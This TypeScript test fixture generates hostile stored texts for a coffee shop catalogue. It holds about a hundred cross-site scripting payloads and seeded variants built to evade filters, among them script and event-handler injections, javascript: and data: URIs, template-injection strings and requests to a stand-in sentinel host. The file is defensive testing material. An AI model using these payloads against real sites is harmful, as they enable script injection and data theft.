import type { CoffeeFields } from "../catalogue/coffee.ts";
import { textFields } from "../catalogue/fields.ts";
import { seededRandom, type SeededRandom } from "../test/seeded-random.ts";

/** No page may ever send a request to this host. A request to it means that a hostile text has run. */
export const sentinel = "https://sentinel.example";

/** A host whose photos the shop may copy. */
export const pictures = "https://pictures.example";

/** What a text does if it manages to run. Each of these leaves another trace. */
const acts = ["globalThis.ran=1", "alert(1)", "console.error('ran')", `fetch('${sentinel}')`, "document.title='taken'"];

/** Texts that try to become a part of the page. `ACT` stands for what they would then do. */
const tries = [
  "<script>ACT</script>",
  "<SCRIPT SRC=SENTINEL/a.js></SCRIPT>",
  "<script type=module>import('SENTINEL')</script>",
  "<script/x>ACT</script\t>",
  "<scr<script>ipt>ACT</scr</script>ipt>",
  "<img src=x onerror=ACT>",
  "<img src=SENTINEL/a.png>",
  '"><img src=x onerror="ACT">',
  "'><img src=x onerror='ACT'>",
  "`><img src=x onerror=ACT>",
  "<svg onload=ACT>",
  "<svg><script>ACT</script></svg>",
  "<svg><animate onbegin=ACT attributeName=x dur=1s>",
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=ACT></svg>#x"></use></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>ACT</script>"></iframe></foreignObject></svg>',
  "<body onload=ACT>",
  "<details open ontoggle=ACT>",
  "<input autofocus onfocus=ACT>",
  "<video><source onerror=ACT></video>",
  "<audio src=x onerror=ACT>",
  "<marquee onstart=ACT>",
  "<iframe src=javascript:ACT></iframe>",
  "<iframe srcdoc='<script>ACT</script>'></iframe>",
  "<object data=javascript:ACT></object>",
  "<embed src=SENTINEL>",
  "<base href=SENTINEL/>",
  "<link rel=stylesheet href=SENTINEL/a.css>",
  "<meta http-equiv=refresh content='0;url=SENTINEL'>",
  "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>ACT</script>",
  "<form action=SENTINEL><button autofocus>press</button></form>",
  "<a href=javascript:ACT ping=SENTINEL>press</a>",
  "javascript:ACT",
  "JaVaScRiPt:ACT",
  "java\tscript:ACT",
  "\u0001javascript:ACT",
  "javascript&colon;ACT",
  "data:text/html,<script>ACT</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ACT'><image href='SENTINEL/a.png'/></svg>",
  "data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><script>ACT</script></svg>",
  "vbscript:ACT",
  'PICTURES/a.png?"onerror="ACT',
  "PICTURES/a.png' onload='ACT",
  "PICTURES/%22%3E%3Cscript%3EACT%3C/script%3E",
  '/nothing.png" onerror="ACT',
  "/\t/pictures.example/a.png",
  "${ACT}",
  "{{constructor.constructor('ACT')()}}",
  "<%= ACT %>",
  "#{ACT}",
  "{{{ACT}}}",
  "*{ACT}",
  "</script><script>ACT</script>",
  "</ScRiPt ><img src=x onerror=ACT>",
  "<!--<script>ACT",
  "--><script>ACT</script><!--",
  "]]><script>ACT</script><![CDATA[",
  '","price":1}]</script><script>ACT</script>',
  '\\"});ACT;//',
  "');ACT;('",
  '"+ACT+"',
  "\\u003cscript\\u003eACT\\u003c/script\\u003e",
  "\\x3cscript\\x3eACT\\x3c/script\\x3e",
  "&lt;script&gt;ACT&lt;/script&gt;",
  "&#x3c;script&#x3e;ACT&#x3c;/script&#x3e;",
  "\u2028ACT\u2029",
  "\nACT//\n",
  "</title><script>ACT</script>",
  "</textarea><script>ACT</script>",
  "</style><script>ACT</script>",
  "</noscript><script>ACT</script>",
  "</head><body onload=ACT>",
  '" /><meta http-equiv=refresh content="0;url=SENTINEL',
  '" onmouseover="ACT" autofocus onfocus="ACT" x="',
  "' style='animation-name:x' onanimationstart='ACT'",
  "<style>@import 'SENTINEL/a.css';</style>",
  "<style>*{background:url(SENTINEL/a.png)}</style>",
  "</style><style>body{display:none}</style>",
  "color:red;background:url(SENTINEL/a.png)",
  "expression(ACT)",
  '<noscript><p title="</noscript><img src=x onerror=ACT>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=ACT>">',
  '<svg></p><style><a id="</style><img src=x onerror=ACT>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ACT>",
  "<template><script>ACT</script></template>",
  "<select><style></select><img src=x onerror=ACT></style>",
  "\u202eACT\u202c<script>ACT</script>",
  "\u2066\u2067<b>\u2069 right to left \u200f",
  "z\u200be\u200cr\u200do\ufeff<script>ACT</script>",
  "\uff1cscript\uff1eACT\uff1c/script\uff1e",
  "\u017fcript <\u017fcript>ACT</\u017fcript>",
  "\u0130mg \u0131mg <\u0131mg src=x onerror=ACT>",
  "Z\u0337\u0321\u033a\u0348a\u0315l\u0322g\u035do<script>ACT</script>",
  // Code that the server removes from the router's script, and nowhere else.
  ".pipeThrough(new TextEncoderStream())",
  "<script>window.__reactRouterContext = {}.pipeThrough(new TextEncoderStream())</script>",
  "__proto__",
  "constructor",
  "[object Object]",
  "null",
  "  \u00a0\u3000  ",
];

/** Characters that browsers do not draw: a coffee with this name counts as unnamed. */
const invisible = "\u200b\u2060\u00ad";

const longest = { text: 10_000, photo: 16_384 };

/**
 * At least 80 hostile texts: each of `tries` once, those that a seed makes from them, and one of invisible characters.
 * No two are equal.
 */
export function storedTexts(seed: number): readonly string[] {
  const random = seededRandom(seed);
  const plain = tries.map((text) => filledIn(text, random));
  const made = Array.from({ length: 28 }, () => changed(filledIn(random.pick(tries), random), random));
  const long = ["<script>ACT</script>", '"><img src=x onerror=ACT>'].map((text) => {
    const one = filledIn(text, random);
    return one.repeat(Math.floor(longest.text / one.length));
  });
  return [...new Set([...plain, ...made, ...long, invisible].map((text) => text.slice(0, longest.text)))];
}

const prices: readonly CoffeeFields["price"][] = ["", "012.50", "2e2", ".5", "-0", 0, 250, 1e21, 0.1, "9".repeat(60)];

/**
 * As many coffees as there are texts, so that each text is in each of the seven text fields of some coffee. Every
 * seventh coffee, from the first on, is enough to cover all texts.
 */
export function hostileCoffees(texts: readonly string[]): CoffeeFields[] {
  return texts.map((_text, at) => {
    const textOf = (field: (typeof textFields)[number]) => texts[(at + textFields.indexOf(field)) % texts.length] ?? "";
    return {
      name: textOf("name"),
      chef: textOf("chef"),
      supplier: textOf("supplier"),
      taste: textOf("taste"),
      category: textOf("category"),
      details: textOf("details"),
      photo: textOf("photo"),
      price: prices[at % prices.length] ?? "",
    };
  });
}

function filledIn(text: string, { pick }: SeededRandom): string {
  return text
    .replaceAll("ACT", () => pick(acts))
    .replaceAll("SENTINEL", sentinel)
    .replaceAll("PICTURES", pictures);
}

/** The text, changed to trick a filter: in mixed capitals, with invisible characters, doubled, or inside another. */
function changed(text: string, random: SeededRandom): string {
  const { pick, below } = random;
  return pick([
    () => text.replaceAll(/[a-z]/g, (letter) => (below(2) === 0 ? letter.toUpperCase() : letter)),
    () => text.replace(/[<:/]/, (mark) => mark + pick(["\t", "\u00ad", "\u200b", "\ufeff", "\u180e", "\u000c"])),
    () => `${text}${filledIn(pick(tries), random)}`,
    () => `<div title='${text}'>${filledIn(pick(tries), random)}</div>`,
    () => text.replaceAll("<", pick(["<<", "<\\", "\\<", "%3C", "+ADw-"])),
    () => JSON.stringify(text),
  ])();
}
